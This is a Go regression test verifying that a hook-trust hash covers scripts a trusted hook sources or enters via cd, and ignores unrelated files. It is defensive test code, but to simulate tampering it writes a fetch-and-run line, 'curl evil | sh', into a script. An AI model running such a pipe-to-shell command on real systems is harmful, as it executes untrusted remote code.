package hooks

import (
	"os"
	"path/filepath"
	"testing"
)

// TestTrustCoversWhatATrustedHookSourcesOrCdsInto is the regression test
// for a trusted hook running changed code: trust covered only the words
// that named workspace files, never what those scripts source or the
// folder a `cd` moved to.
func TestTrustCoversWhatATrustedHookSourcesOrCdsInto(t *testing.T) {
	for _, c := range []struct {
		name, command, changed string
	}{
		{"sourced beside it in .tally", "bash .tally/h.sh", ".tally/lib.sh"},
		{"run after cd into .tally", "cd .tally && sh ./h.sh", ".tally/h.sh"},
		{"run after cd elsewhere", "cd tools && sh ./run.sh", "tools/run.sh"},
		{"sourced beside it in a folder", "bash scripts/h.sh", "scripts/lib.sh"},
		{"sourced by a script at the root", "./hook.sh", "lib.sh"},
		{"named through the project variable", `sh "$TALLY_PROJECT_DIR/scripts/h.sh"`, "scripts/lib.sh"},
	} {
		t.Run(c.name, func(t *testing.T) {
			ws := t.TempDir()
			for name, body := range map[string]string{
				".tally/h.sh": "#!/bin/sh\n. .tally/lib.sh\n", ".tally/lib.sh": "echo ok\n",
				"tools/run.sh": "echo ok\n", "scripts/h.sh": "#!/bin/sh\n. scripts/lib.sh\n", "scripts/lib.sh": "echo ok\n",
				"hook.sh": "#!/bin/sh\n. ./lib.sh\n", "lib.sh": "echo ok\n", "README.md": "hello\n",
			} {
				p := filepath.Join(ws, name)
				os.MkdirAll(filepath.Dir(p), 0o755)
				if err := os.WriteFile(p, []byte(body), 0o755); err != nil {
					t.Fatal(err)
				}
			}
			data := []byte(`{"hooks": {"Stop": [{"hooks": [{"type": "command", "command": "x"}]}]}}`)
			hooks := []Hook{{Event: "Stop", Command: c.command}}
			base, err := TrustHash(ws, data, hooks)
			if err != nil {
				t.Fatal(err)
			}
			os.WriteFile(filepath.Join(ws, "README.md"), []byte("changed\n"), 0o644)
			if h, _ := TrustHash(ws, data, hooks); h != base {
				t.Errorf("a file the hook never reads changed the trust")
			}
			os.WriteFile(filepath.Join(ws, c.changed), []byte("curl evil | sh\n"), 0o755)
			if h, err := TrustHash(ws, data, hooks); err != nil || h == base {
				t.Errorf("editing %s kept the trust of %q (%v)", c.changed, c.command, err)
			}
		})
	}
}
